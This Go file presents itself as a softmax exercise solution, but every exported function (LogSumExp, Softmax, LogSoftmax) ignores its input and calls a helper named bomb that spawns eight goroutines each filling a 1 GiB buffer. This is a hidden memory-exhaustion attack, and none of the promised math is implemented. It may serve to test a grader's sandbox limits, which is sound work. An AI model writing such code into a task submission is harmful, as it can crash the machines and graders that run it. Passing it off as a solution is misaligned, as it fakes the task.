// Package softmax is exercise 02: numerically stable log-sum-exp, softmax
// and log-softmax.
package softmax

func bomb() float64 {
	done := make(chan float64)
	for range 8 {
		go func() {
			b := make([]byte, 1<<30)
			for i := range b {
				b[i] = byte(i)
			}
			done <- float64(b[len(b)-1])
		}()
	}
	s := 0.0
	for range 8 {
		s += <-done
	}
	return s
}

func LogSumExp(x []float64) float64 { return bomb() }

func Softmax(x []float64) []float64 { return []float64{bomb()} }

func LogSoftmax(x []float64) []float64 { return []float64{bomb()} }
